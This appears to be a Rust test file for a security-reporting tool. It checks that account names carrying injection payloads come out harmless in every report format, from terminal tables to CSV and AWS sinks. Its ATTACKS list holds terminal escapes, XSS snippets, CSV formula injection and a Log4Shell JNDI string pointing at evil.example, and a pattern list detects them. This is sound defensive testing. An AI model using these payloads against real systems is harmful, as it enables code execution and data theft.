//! Names that attack whoever reads them, through every form in which a report leaves: nothing of them is left that a terminal, a
//! browser, a spreadsheet, an issue tracker or a log would obey.

use std::collections::BTreeMap;

use jiff::Timestamp;
use proptest::prelude::*;
use proptest::sample::select;
use serde_json::Value;

use super::{Report, asff, csv, html, json, jsonl, junit, markdown, ocsf, sample, sarif};
use crate::echo::deceives;
use crate::ids::AccountId;
use crate::sinks::cloudwatch::Log;
use crate::sinks::eventbridge::events::{of_findings, of_run};
use crate::sinks::sns::digest::digest;

/// What each reader would obey: a terminal, a reader of text, a browser, Markdown, a spreadsheet, an issue tracker.
const ATTACKS: [&str; 20] = [
    "\u{1b}[31mred\u{1b}]0;title\u{7}",
    "\u{9b}2J\u{85}",
    "\r\nERROR forged=line",
    "\u{202e}gnp.exe\u{2066}",
    "\u{200b}\u{feff}\u{e0041}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script></td></table><!--",
    "\"'><svg/onload=alert(1)>",
    "[click](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "| cell | cell |\n|---|---|",
    "```\n# heading\n```",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1-1\t=1",
    "@team closes #1",
    "{{7*7}} ${jndi:ldap://evil.example} %s%n",
    "]]><x/>&lt;&#0;",
    "javascript:alert(1)",
];

/// Every form, with the readers that it has.
fn forms(report: &Report) -> Vec<(&'static str, String)> {
    let names: BTreeMap<AccountId, String> = report.account_names.clone();
    let text = |write: &dyn Fn(&mut Vec<u8>) -> std::io::Result<()>| {
        let mut out = Vec::new();
        write(&mut out).unwrap();
        String::from_utf8(out).unwrap()
    };
    vec![
        #[cfg(feature = "cli")]
        ("table", {
            use super::table::{self, Colour, Look};
            text(&|out| table::write(report, &names, Look { width: 120, colour: Colour::Off }, out))
        }),
        ("json", text(&|out| json::write(report, out))),
        ("jsonl", text(&|out| jsonl::write(report, out))),
        ("markdown", text(&|out| markdown::write(report, out))),
        ("html", text(&|out| html::write(report, &names, out))),
        ("csv", text(&|out| csv::write(report, out))),
        ("sarif", text(&|out| sarif::write(report, out))),
        ("junit", text(&|out| junit::write(report, out))),
        ("ocsf", text(&|out| ocsf::write(report, out))),
        ("asff", text(&|out| asff::write(report, out))),
        ("cloudwatch", cloudwatch(report)),
        ("eventbridge", eventbridge(report)),
        ("sns", sns(report)),
    ]
}

/// The lines of the log, those of metrics too: each is one document.
fn cloudwatch(report: &Report) -> String {
    let log = Log::new(report, Timestamp::UNIX_EPOCH);
    let lines = (0..log.len()).map(|number| log.line(number).unwrap().unwrap());
    let lines: Vec<String> = lines.inspect(|line| assert!(serde_json::from_str::<Value>(line).is_ok())).collect();
    assert!(lines.iter().all(|line| !line.contains('\n')));
    lines.join("\n")
}

/// What stands in the events.
fn eventbridge(report: &Report) -> String {
    let events: Vec<_> = of_findings(report, 256 * 1024).chain([of_run(report)]).map(Result::unwrap).collect();
    assert!(events.iter().all(|event| serde_json::from_str::<Value>(&event.detail).is_ok()));
    events.into_iter().map(|event| event.detail).collect::<Vec<_>>().join("\n")
}

/// Subject, body and attributes of the message.
fn sns(report: &Report) -> String {
    let digest = digest(report, Some("s3://bucket/key"));
    assert!(digest.subject.is_ascii() && !digest.subject.chars().any(char::is_control), "{}", digest.subject);
    format!("{}\n{}", digest.subject, digest.body)
}

/// What must not stand in a form whatever names say. (SARIF's messages, which are Markdown, are held in `well_formed`: its
/// properties repeat the finding to the letter.)
fn raw(form: &str) -> &'static [&'static str] {
    match form {
        "markdown" => {
            &["<script", "<img", "<svg", "](https://evil", "](javascript:", "@team", "\n|---|---|\n|---", "://evil"]
        }
        "html" => &["<script>alert", "<img src=x", "<svg/onload", "</script></td>", "\"'><"],
        "junit" => &["<script", "<img", "<svg", "]]><x"],
        "csv" => &["\n=", "\n@", "\n+", ",=", ",@", ",+", "\"=", "\"@", "\"+"],
        _ => &[],
    }
}

/// Markdown without its blocks of code, in which everything is shown as it is.
fn outside_of_blocks(text: &str) -> String {
    let mut fence: Option<&str> = None;
    let mut out = String::new();
    for line in text.lines() {
        match fence {
            Some(open) if line == open => fence = None,
            Some(_) => {}
            None if line.starts_with("```") => fence = Some(line.trim_end_matches(|c| c != '`')),
            None => {
                out.push_str(line);
                out.push('\n');
            }
        }
    }
    assert!(fence.is_none(), "a block does not end");
    out
}

#[track_caller]
fn is_harmless(attack: &str) {
    let report = sample::every_kind(attack);
    let plain = sample::every_kind("plain");
    for ((form, text), (_, quiet)) in forms(&report).into_iter().zip(forms(&plain)) {
        // spreadsheets know UTF-8 by a mark at the beginning
        let text = text.strip_prefix('\u{feff}').filter(|_| form == "csv").unwrap_or(&text);
        let odd = text.chars().find(|c| deceives(*c) && !matches!(c, '\n' | '\r'));
        assert!(odd.is_none(), "{form} has {odd:?}");
        // a row of csv ends with both; nothing else has the one
        assert_eq!(text.matches('\r').count(), text.matches("\r\n").count(), "{form}");
        assert!(form == "csv" || !text.contains('\r'), "{form}");
        let shown = if form == "markdown" { outside_of_blocks(text) } else { text.to_owned() };
        for piece in raw(form) {
            assert!(shown.matches(piece).count() <= quiet.matches(piece).count(), "{form} has {piece:?} of {attack:?}");
        }
        let is_lines = ["json", "jsonl", "csv", "sarif", "ocsf", "asff", "junit", "cloudwatch", "eventbridge", "sns"];
        if is_lines.contains(&form) {
            let (lines, expected) = (text.lines().count(), quiet.lines().count());
            assert_eq!(lines, expected, "{form}: a name made a line");
        }
    }
}

#[test]
fn each_attack_is_harmless_in_every_form() {
    for attack in ATTACKS {
        is_harmless(attack);
    }
    is_harmless(&ATTACKS.concat());
}

#[test]
fn a_very_long_name_is_told_by_sinks_in_part_and_by_every_form_at_all() {
    let long = "=\u{202e}<b>|".repeat(2_000);
    for (form, text) in forms(&sample::every_kind(&long)) {
        assert!(!text.is_empty() && !text.contains('\u{202e}'), "{form}");
        let limit = match form {
            "sns" => 70 * 1024,
            "cloudwatch" | "eventbridge" => 20 * 256 * 1024,
            _ => usize::MAX,
        };
        assert!(text.len() <= limit, "{form}: {} bytes", text.len());
        if form == "cloudwatch" || form == "eventbridge" {
            assert!(text.lines().all(|line| line.len() <= 256 * 1024), "{form}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 8, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn attacks_in_a_row_are_harmless_in_every_form(pieces in proptest::collection::vec(select(&ATTACKS[..]), 1..5)) {
        is_harmless(&pieces.concat());
    }
}
